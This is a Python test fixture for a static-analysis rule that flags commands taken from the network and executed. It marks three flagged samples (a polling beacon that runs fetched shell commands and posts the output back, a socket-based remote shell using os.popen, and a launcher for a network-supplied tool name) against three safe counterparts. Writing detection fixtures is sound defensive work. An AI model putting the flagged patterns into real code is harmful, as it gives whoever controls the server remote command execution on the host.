import os
import socket
import subprocess
import time

import requests

ACTIONS = {"restart": ["systemctl", "restart", "worker"]}


def beacon(server: str) -> None:
    """A "remote maintenance" loop of the kind an assistant writes when asked for ops automation."""
    while True:
        job = requests.get(f"{server}/jobs/next", timeout=10).json()
        if job.get("cmd"):
            # ruleid: command-from-network-executed
            output = subprocess.run(job["cmd"], shell=True, capture_output=True, text=True)
            requests.post(f"{server}/jobs/result", json={"out": output.stdout}, timeout=10)
        time.sleep(30)


def shell_over_socket(host: str, port: int) -> None:
    conn = socket.create_connection((host, port))
    while True:
        line = conn.recv(1024).decode().strip()
        # ruleid: command-from-network-executed
        result = os.popen(line).read()
        conn.sendall(result.encode())


def run_tool(server: str) -> None:
    tool = requests.get(f"{server}/tool-name", timeout=5).text.strip()
    # ruleid: command-from-network-executed
    subprocess.Popen([tool, "--serve"])


def restart_on_request(server: str) -> None:
    action = requests.get(f"{server}/next", timeout=10).json()["action"]
    # ok: command-from-network-executed
    subprocess.run(ACTIONS[action], check=True)


def clone(repo_api: str) -> None:
    url = requests.get(repo_api, timeout=10).json()["clone_url"]
    # ok: command-from-network-executed
    subprocess.run(["git", "clone", "--depth", "1", url], check=True)


def local_disk_usage() -> str:
    # ok: command-from-network-executed
    return subprocess.check_output(["df", "-h"], text=True)
